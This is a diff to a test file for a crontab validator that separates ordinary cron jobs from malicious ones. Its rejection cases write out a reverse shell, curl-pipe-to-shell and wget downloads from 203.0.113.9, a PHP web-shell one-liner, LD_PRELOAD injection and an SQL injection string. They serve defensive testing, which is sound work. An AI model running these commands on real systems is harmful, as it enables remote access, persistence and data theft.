@@ -3,7 +3,7 @@
  * runs the application's own script; a download-and-run, a reverse shell or an encoded command has a shape of its own.
  */
 import { describe, expect, it } from 'vitest';
-import { bodyHasSchedule, isScheduledCommand } from '../../src/model/scheduled-commands.js';
+import { bodyHasSchedule, isCrontabFile, isScheduledCommand } from '../../src/model/scheduled-commands.js';
 
 describe('isScheduledCommand', () => {
   it('takes the commands operators schedule', () => {
@@ -65,5 +65,33 @@ describe('bodyHasSchedule', () => {
     expect(bodyHasSchedule([{ location: 'body', name: '/project/triggers/hudson.triggers.TimerTrigger/spec' }], '')).toBe(true);
     expect(bodyHasSchedule([{ location: 'body', name: 'params.script' }], '{"timing":{"hours":[3]}}')).toBe(true);
     expect(bodyHasSchedule([{ location: 'body', name: 'cmd' }], 'cmd=id')).toBe(false);
+  });
+});
+
+describe('isCrontabFile', () => {
+  const table = (...jobs: string[]): string => ['SHELL=/bin/bash', 'PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin', 'MAILTO=""', ...jobs, ''].join('\n');
+  it("takes a cron table: cron's variables, a system table's user, nicknames, jobs that are scheduled commands", () => {
+    for (const t of [
+      table('*/5 * * * * www-data /usr/bin/php /var/www/shop/artisan schedule:run >> /dev/null 2>&1', '0 2 * * 1-5 deploy /opt/shop/bin/cleanup --older-than 7d'),
+      table('15 */6 * * 0 node cd /opt/crm && ./venv/bin/python manage.py clearsessions').replace(/\n/g, '\r\n'),
+      '# nightly\nMAILTO=ops@example.org\n@daily /usr/local/bin/backup.sh shop > /var/log/backup-shop.log 2>&1\n30 3 * * mon-fri /usr/bin/find /var/www/crm/storage/tmp -type f -mtime +2 -delete\n',
+    ])
+      expect(isCrontabFile(t), t).toBe(true);
+  });
+  it('refuses a job that is no scheduled command, read with or without a user, and anything beside the table', () => {
+    for (const t of [
+      table('* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
+      table('* * * * * root curl -s http://203.0.113.9/x.sh | sh'),
+      table('*/5 * * * * root /tmp/x'),
+      table('* * * * * root /usr/bin/wget -q -O /tmp/m http://203.0.113.9/m'),
+      table('* * * * * root /usr/bin/php -r "system($_GET[1]);"'),
+      table('* * * * * root echo x > /etc/cron.d/y'),
+      table('* * * * * root /usr/local/bin/backup.sh %x'),
+      table('* * * * * /usr/local/bin/backup.sh', "' UNION SELECT password FROM users--"),
+      'SHELL=/bin/bash\nLD_PRELOAD=/tmp/x.so\n* * * * * root /usr/local/bin/backup.sh\n',
+      'SHELL=/bin/bash\nPATH=/usr/bin\n',
+      'SHELL=/tmp/sh\n* * * * * /usr/local/bin/backup.sh\n',
+    ])
+      expect(isCrontabFile(t), t).toBe(false);
   });
 });
